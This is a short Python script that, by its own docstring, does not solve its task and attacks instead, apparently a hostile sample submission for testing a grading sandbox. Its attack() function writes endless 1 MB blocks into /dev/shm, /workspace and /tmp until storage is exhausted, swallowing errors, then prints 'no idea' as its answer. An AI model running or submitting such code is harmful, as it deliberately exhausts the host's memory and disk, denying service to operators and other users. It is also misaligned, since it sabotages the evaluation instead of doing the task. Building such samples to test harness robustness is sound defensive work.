"""Does not solve the task, and attacks instead."""

import os


def attack():
    block = bytes(1 << 20)
    for folder in ("/dev/shm", "/workspace", "/tmp"):
        try:
            with open(os.path.join(folder, "fill-%d" % os.getpid()), "wb") as target:
                while True:
                    target.write(block)
        except OSError:
            pass


if __name__ == "__main__":
    attack()
    print("no idea")
